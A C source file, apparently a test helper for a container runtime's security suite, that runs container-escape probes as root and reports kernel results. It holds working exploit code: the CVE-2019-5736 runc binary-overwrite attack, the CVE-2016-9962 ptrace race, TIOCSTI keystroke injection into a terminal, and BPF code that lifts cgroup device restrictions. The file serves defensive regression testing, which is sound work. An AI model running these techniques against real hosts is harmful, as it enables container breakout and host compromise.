/*
 * escape-probe: what the security tests run as root inside a container. Each command makes one
 * attempt and prints "ok ..." or "err <errno>", so tests assert on the exact kernel answer.
 * Nothing here acts on what it reaches: sysrq-trigger is only opened (never written), modules are
 * never real (finit_module of a non-module file), devices are only read (a few bytes).
 *
 *   openw PATH                 open(O_WRONLY)
 *   read PATH N                read N bytes; prints "ok <count> <hex of the first bytes>"
 *   syscall NR [ARG...]        raw syscall with integer arguments (-1 etc.)
 *   finit PATH                 finit_module(open(PATH), "", 0)
 *   mknod PATH b|c MAJ MIN     mknod(S_IFBLK/S_IFCHR | 0600)
 *   mount SRC TARGET FSTYPE    mount(SRC, TARGET, FSTYPE, MS_RDONLY); umounts again on success
 *   fds                        every open descriptor and where it points, then cwd and root
 *   hijack FIFO OUT            the CVE-2019-5736 attack on a helper blocked opening FIFO (see below)
 *   ptrace-race LOG SECONDS    the runc CVE-2016-9962 attack: seize every new pid of the namespace
 *                              as it appears, and record what each caught process holds (see below);
 *                              ends early once LOG.stop exists
 *   tiocsti FD TEXT            push TEXT into the input of the terminal on FD (TIOCSTI), as typed;
 *                              '~' is Enter, '|' waits a second (the shell that ran it may exit)
 *   bpfdev CGDIR FLAGS         attach an allow-everything cgroup device program to CGDIR (BPF_PROG_ATTACH)
 *   bpfdetach CGDIR            detach every device program in force at CGDIR (BPF_F_QUERY_EFFECTIVE) from CGDIR
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/mount.h>
#include <sys/ptrace.h>
#include <sys/wait.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/sysmacros.h>
#include <time.h>
#include <linux/bpf.h>
#include <unistd.h>

static int result(long rc) {
    if (rc < 0) { printf("err %d\n", errno); return 1; }
    printf("ok %ld\n", rc);
    return 0;
}

static void sleep_ms(int ms) { struct timespec ts = { ms / 1000, (ms % 1000) * 1000000L }; nanosleep(&ts, NULL); }

/* The CVE-2019-5736 attack: find the helper process whose command line names FIFO (it blocks
 * opening it), hold /proc/PID/exe, let it die by opening the FIFO, then reopen the held exe for
 * writing and write to it. Prints what exe pointed to and what the write attempts got. */
static int hijack(const char *fifo) {
    for (int tries = 0; tries < 2000; tries++, sleep_ms(5)) {
        DIR *d = opendir("/proc");
        struct dirent *e;
        while (d && (e = readdir(d))) {
            int pid = atoi(e->d_name);
            if (pid <= 1 || pid == getpid()) continue;
            char path[64], cmd[4096] = "";
            snprintf(path, sizeof path, "/proc/%d/cmdline", pid);
            int cfd = open(path, O_RDONLY);
            if (cfd < 0) continue;
            ssize_t n = read(cfd, cmd, sizeof cmd - 1);
            close(cfd);
            for (ssize_t i = 0; i < n; i++) if (!cmd[i]) cmd[i] = ' ';
            if (n <= 0 || !strstr(cmd, fifo) || strstr(cmd, "hijack")) continue;
            snprintf(path, sizeof path, "/proc/%d/exe", pid);
            char target[4096] = "";
            ssize_t t = readlink(path, target, sizeof target - 1);
            if (t > 0) target[t] = '\0';
            printf("exe %s\n", target);
            int exe = open(path, O_PATH);
            printf("hold %s\n", exe < 0 ? strerror(errno) : "ok");
            int direct = open(path, O_WRONLY);
            printf("openw-while-running %d\n", direct < 0 ? errno : 0);
            if (direct >= 0) { printf("write-while-running %d\n", write(direct, "pwned", 5) < 0 ? errno : 0); close(direct); }
            int w = open(fifo, O_WRONLY); /* releases the helper: it reads an empty spec and dies */
            if (w >= 0) close(w);
            for (int i = 0; i < 2000 && kill(pid, 0) == 0; i++) sleep_ms(5);
            if (exe >= 0) {
                char again[64];
                snprintf(again, sizeof again, "/proc/self/fd/%d", exe);
                int fd = open(again, O_WRONLY);
                printf("openw-after-exit %d\n", fd < 0 ? errno : 0);
                if (fd >= 0) { printf("write-after-exit %d\n", write(fd, "pwned", 5) < 0 ? errno : 0); close(fd); }
            }
            fflush(stdout);
            return 0;
        }
        if (d) closedir(d);
    }
    printf("no helper process seen\n");
    return 1;
}

/* "Key:\tvalue" of /proc/PID/status, whitespace squeezed, or "?" */
static void status_field(int pid, const char *key, char *out, size_t size) {
    char path[64], line[512];
    snprintf(path, sizeof path, "/proc/%d/status", pid);
    snprintf(out, size, "?");
    FILE *f = fopen(path, "r");
    if (!f) return;
    size_t k = strlen(key);
    while (fgets(line, sizeof line, f)) {
        if (strncmp(line, key, k) || line[k] != ':') continue;
        char *v = line + k + 1, *o = out;
        for (; *v && o < out + size - 1; v++) {
            if (*v == '\n') break;
            if (*v == '\t' || *v == ' ') { if (o > out && o[-1] != ',') *o++ = ','; continue; }
            *o++ = *v;
        }
        if (o > out && o[-1] == ',') o--;
        *o = '\0';
        break;
    }
    fclose(f);
}

/* One line about a process: its exe, ids, capabilities, seccomp, no_new_privs, cwd, root, fds. */
static void describe(FILE *out, const char *what, int pid) {
    char state[64];
    status_field(pid, "State", state, sizeof state); /* gone, or a zombie: it holds nothing any more */
    if (state[0] == '?' || state[0] == 'Z' || state[0] == 'X') { fprintf(out, "gone pid=%d\n", pid); fflush(out); return; }
    static const char *keys[] = { "Uid", "Gid", "CapEff", "CapPrm", "CapBnd", "CapInh", "CapAmb", "NoNewPrivs", "Seccomp" };
    char path[300], target[4096], v[256];
    fprintf(out, "%s pid=%d", what, pid);
    snprintf(path, sizeof path, "/proc/%d/exe", pid);
    ssize_t n = readlink(path, target, sizeof target - 1);
    fprintf(out, " exe=%s", n > 0 ? (target[n] = '\0', target) : "?");
    for (size_t i = 0; i < sizeof keys / sizeof *keys; i++) { status_field(pid, keys[i], v, sizeof v); fprintf(out, " %s=%s", keys[i], v); }
    snprintf(path, sizeof path, "/proc/%d/cwd", pid);
    n = readlink(path, target, sizeof target - 1);
    fprintf(out, " cwd=%s", n > 0 ? (target[n] = '\0', target) : "?");
    snprintf(path, sizeof path, "/proc/%d/root", pid);
    n = readlink(path, target, sizeof target - 1);
    fprintf(out, " root=%s fds=", n > 0 ? (target[n] = '\0', target) : "?");
    snprintf(path, sizeof path, "/proc/%d/fd", pid);
    DIR *d = opendir(path);
    struct dirent *e;
    int first = 1;
    while (d && (e = readdir(d))) {
        if (e->d_name[0] == '.') continue;
        char fdpath[600];
        snprintf(fdpath, sizeof fdpath, "/proc/%d/fd/%s", pid, e->d_name);
        n = readlink(fdpath, target, sizeof target - 1);
        fprintf(out, "%s%s:%s", first ? "" : "|", e->d_name, n > 0 ? (target[n] = '\0', target) : "?");
        first = 0;
    }
    if (d) closedir(d); else fprintf(out, "unreadable");
    fprintf(out, "\n");
    fflush(out);
}

/* The runc CVE-2016-9962 attack: spin on PTRACE_SEIZE of the namespace's newest pids (from
 * ns_last_pid) for SECONDS; every process caught is stopped, described (while it cannot move) and
 * released. Ends with "seen N caught M": N new pids appeared while it raced. */
static int ptrace_race(const char *log, int seconds) {
    FILE *out = fopen(log, "w");
    if (!out) return result(-1);
    describe(out, "self", getpid());
    int lastfd = open("/proc/sys/kernel/ns_last_pid", O_RDONLY | O_CLOEXEC);
    if (lastfd < 0) return result(-1);
    time_t end = time(NULL) + seconds;
    long prev = -1, seen = 0, caught = 0, tries = 0;
    char stop[4200];
    snprintf(stop, sizeof stop, "%s.stop", log);
    int recent[64] = { 0 }, nrecent = 0; /* a pid is described at most twice (before and after its exec) */
    for (long round = 0; time(NULL) < end; round++) {
        if (round % 4096 == 0 && access(stop, F_OK) == 0) break;
        char buf[32];
        ssize_t n = pread(lastfd, buf, sizeof buf - 1, 0);
        if (n <= 0) continue;
        buf[n] = '\0';
        long last = atol(buf);
        if (prev >= 0 && last > prev) seen += last - prev;
        prev = last;
        for (long pid = last; pid <= last + 2; pid++) {
            if (pid == getpid()) continue;
            int times = 0;
            for (int i = 0; i < 64; i++) times += recent[i] == pid;
            if (times >= 2) continue;
            tries++;
            if (ptrace(PTRACE_SEIZE, (pid_t)pid, 0, 0) < 0) continue;
            caught++;
            recent[nrecent++ % 64] = (int)pid;
            ptrace(PTRACE_INTERRUPT, (pid_t)pid, 0, 0);
            int st;
            waitpid((pid_t)pid, &st, __WALL);
            describe(out, "caught", (int)pid);
            ptrace(PTRACE_DETACH, (pid_t)pid, 0, 0);
        }
    }
    fprintf(out, "seen %ld caught %ld tries %ld\n", seen, caught, tries);
    fclose(out);
    return 0;
}

int main(int argc, char **argv) {
    setvbuf(stdout, NULL, _IONBF, 0);
    if (argc < 2) { fprintf(stderr, "usage: see the source\n"); return 2; }
    const char *c = argv[1];
    if (!strcmp(c, "openw") && argc == 3) return result(open(argv[2], O_WRONLY | O_CLOEXEC));
    if (!strcmp(c, "read") && argc == 4) {
        int fd = open(argv[2], O_RDONLY | O_CLOEXEC);
        if (fd < 0) return result(-1);
        unsigned char buf[64];
        size_t want = (size_t)atoi(argv[3]);
        ssize_t n = read(fd, buf, want < sizeof buf ? want : sizeof buf);
        if (n < 0) return result(-1);
        printf("ok %zd ", n);
        for (ssize_t i = 0; i < n && i < 4; i++) printf("%02x", buf[i]);
        printf("\n");
        return 0;
    }
    if (!strcmp(c, "syscall") && argc >= 3) {
        long a[6] = { 0 };
        for (int i = 3; i < argc && i < 9; i++) a[i - 3] = strtol(argv[i], NULL, 0);
        return result(syscall(strtol(argv[2], NULL, 0), a[0], a[1], a[2], a[3], a[4], a[5]));
    }
    if (!strcmp(c, "finit") && argc == 3) {
        int fd = open(argv[2], O_RDONLY | O_CLOEXEC);
        if (fd < 0) return result(-1);
        return result(syscall(SYS_finit_module, fd, "", 0));
    }
    if (!strcmp(c, "mknod") && argc == 6)
        return result(mknod(argv[2], (argv[3][0] == 'b' ? S_IFBLK : S_IFCHR) | 0600, makedev(atoi(argv[4]), atoi(argv[5]))));
    if (!strcmp(c, "mount") && argc == 5) {
        int rc = mount(argv[2], argv[3], argv[4], MS_RDONLY, NULL);
        if (rc == 0) umount2(argv[3], MNT_DETACH);
        return result(rc);
    }
    if (!strcmp(c, "fds")) {
        DIR *d = opendir("/proc/self/fd");
        struct dirent *e;
        while (d && (e = readdir(d))) {
            if (e->d_name[0] == '.' || atoi(e->d_name) == dirfd(d)) continue;
            char p[300], t[4096] = "";
            snprintf(p, sizeof p, "/proc/self/fd/%s", e->d_name);
            ssize_t n = readlink(p, t, sizeof t - 1);
            if (n > 0) t[n] = '\0';
            printf("fd %s %s\n", e->d_name, t);
        }
        char cwd[4096] = "", root[4096] = "";
        ssize_t n = readlink("/proc/self/cwd", cwd, sizeof cwd - 1);
        if (n > 0) cwd[n] = '\0';
        n = readlink("/proc/self/root", root, sizeof root - 1);
        if (n > 0) root[n] = '\0';
        printf("cwd %s\nroot %s\n", cwd, root);
        return 0;
    }
    if (!strcmp(c, "hijack") && argc == 3) return hijack(argv[2]);
    if (!strcmp(c, "ptrace-race") && argc == 4) return ptrace_race(argv[2], atoi(argv[3]));
    if (!strcmp(c, "tiocsti") && argc == 4) {
        int fd = atoi(argv[2]);
        for (const char *p = argv[3]; *p; p++) {
            if (*p == '|') { sleep_ms(1000); continue; }
            char ch = *p == '~' ? '\r' : *p; /* ~ stands for Enter */
            if (ioctl(fd, TIOCSTI, &ch) < 0) return result(-1);
        }
        return result(0);
    }
    if (!strcmp(c, "bpfdev") && argc == 4) {
        /* r0 = 1 (allow); exit */
        struct bpf_insn prog[] = { { .code = BPF_ALU64 | BPF_MOV | BPF_K, .dst_reg = 0, .imm = 1 }, { .code = BPF_JMP | BPF_EXIT } };
        union bpf_attr load = { 0 };
        load.prog_type = BPF_PROG_TYPE_CGROUP_DEVICE;
        load.insns = (unsigned long)prog;
        load.insn_cnt = 2;
        load.license = (unsigned long)"GPL";
        int pfd = (int)syscall(SYS_bpf, BPF_PROG_LOAD, &load, sizeof load);
        if (pfd < 0) { printf("err %d load\n", errno); return 1; }
        int cg = open(argv[2], O_RDONLY | O_DIRECTORY);
        if (cg < 0) return result(-1);
        union bpf_attr at = { 0 };
        at.target_fd = (unsigned)cg;
        at.attach_bpf_fd = (unsigned)pfd;
        at.attach_type = BPF_CGROUP_DEVICE;
        at.attach_flags = (unsigned)strtoul(argv[3], NULL, 0);
        return result(syscall(SYS_bpf, BPF_PROG_ATTACH, &at, sizeof at));
    }
    if (!strcmp(c, "bpfdetach") && argc == 3) {
        int cg = open(argv[2], O_RDONLY | O_DIRECTORY);
        if (cg < 0) return result(-1);
        unsigned ids[16];
        union bpf_attr q = { 0 };
        q.query.target_fd = (unsigned)cg;
        q.query.attach_type = BPF_CGROUP_DEVICE;
        q.query.query_flags = BPF_F_QUERY_EFFECTIVE;
        q.query.prog_ids = (unsigned long)ids;
        q.query.prog_cnt = 16;
        if (syscall(SYS_bpf, BPF_PROG_QUERY, &q, sizeof q) < 0) { printf("err %d query\n", errno); return 1; }
        if (q.query.prog_cnt == 0) { printf("err %d none\n", ENOENT); return 1; }
        long rc = 0;
        int err = 0;
        for (unsigned i = 0; i < q.query.prog_cnt; i++) {
            union bpf_attr g = { 0 };
            g.prog_id = ids[i];
            int pfd = (int)syscall(SYS_bpf, BPF_PROG_GET_FD_BY_ID, &g, sizeof g);
            if (pfd < 0) { rc = -1; err = errno; continue; }
            union bpf_attr d = { 0 };
            d.target_fd = (unsigned)cg;
            d.attach_bpf_fd = (unsigned)pfd;
            d.attach_type = BPF_CGROUP_DEVICE;
            if (syscall(SYS_bpf, BPF_PROG_DETACH, &d, sizeof d) < 0) { rc = -1; err = errno; }
        }
        errno = err;
        return result(rc);
    }
    fprintf(stderr, "escape-probe: bad command\n");
    return 2;
}
